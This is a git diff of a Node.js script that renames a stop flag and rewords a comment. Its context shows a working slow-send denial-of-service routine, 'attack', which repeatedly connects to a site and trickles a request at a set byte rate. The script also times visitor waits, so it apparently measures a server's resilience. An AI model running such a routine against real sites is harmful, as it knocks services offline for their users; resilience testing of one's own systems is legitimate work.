@@ -40,12 +40,12 @@ const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
  */
 function attack(site, request, bytesPerSecond) {
   const { hostname, port } = new URL(site)
-  let isOver = false
+  let isStopped = false
   /** @type {import('node:net').Socket | undefined} */
   let socket
 
   async function sendRepeatedly() {
-    while (!isOver) {
+    while (!isStopped) {
       socket = connect(Number(port), hostname).on('error', () => {})
       socket.resume()
       await once(socket, 'connect').catch(() => {})
@@ -56,7 +56,7 @@ function attack(site, request, bytesPerSecond) {
   /** @param {import('node:net').Socket} socket */
   async function sendUntilClosed(socket) {
     let offset = 0
-    while (!isOver && socket.writable) {
+    while (!isStopped && socket.writable) {
       let bytesDue = Math.round((bytesPerSecond * PAUSE_MS) / 1000)
       while (bytesDue > 0) {
         const slice = request.subarray(offset, offset + bytesDue)
@@ -71,14 +71,14 @@ function attack(site, request, bytesPerSecond) {
 
   sendRepeatedly().catch(exitWithError)
   return () => {
-    isOver = true
+    isStopped = true
     socket?.destroy()
   }
 }
 
 /**
  * Measures how long a visitor waits for the home page and for the response to a deployment request,
- * in ms. A failed request counts as infinitely long.
+ * in ms. The time of a failed request is `Infinity`.
  *
  * @param {string} site
  * @param {number} visitorNumber
